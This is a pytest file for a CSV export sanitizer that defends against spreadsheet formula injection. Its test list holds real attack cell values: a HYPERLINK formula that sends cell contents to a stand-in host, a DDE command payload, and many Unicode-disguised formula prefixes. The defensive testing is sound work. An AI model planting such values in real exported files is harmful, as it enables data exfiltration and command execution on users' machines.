"""No cell that leaves here is taken for a formula, whoever wrote its words."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alongside.exchange.tabular.safe_csv import safe_cell, write_safe_csv

ATTACKS = [
    '=HYPERLINK("http://demo.invalid?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b@x",
    '"=1+1',
    "'=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_is_shown_instead(attack: str) -> None:
    assert safe_cell(attack).startswith("'")
    assert "\x00" not in safe_cell(attack)


@pytest.mark.parametrize("text", ["", "Bo", "1 = 1", "a@demo.invalid", "Demo-Street", "27/3/2026", "'so'"])
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


@given(st.lists(st.lists(st.one_of(st.text(), st.sampled_from(ATTACKS)), min_size=1, max_size=4), max_size=4))
def test_a_table_keeps_its_shape_and_no_cell_begins_with_a_mark(rows: list[list[str]]) -> None:
    file = write_safe_csv(header=["a", "=b"], rows=rows)
    back = list(csv.reader(StringIO(file.decode("utf-8-sig"), newline="")))
    assert [len(row) for row in back] == [2, *(len(row) for row in rows)]
    for cell in (cell for row in back for cell in row):
        assert not cell.lstrip(" \u00a0\u200b\u3000").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))


def test_control_a_plain_writer_lets_every_attack_through() -> None:
    target = StringIO(newline="")
    csv.writer(target).writerows([[attack] for attack in ATTACKS])
    back = list(csv.reader(StringIO(target.getvalue(), newline="")))
    assert [row[0] for row in back] == ATTACKS
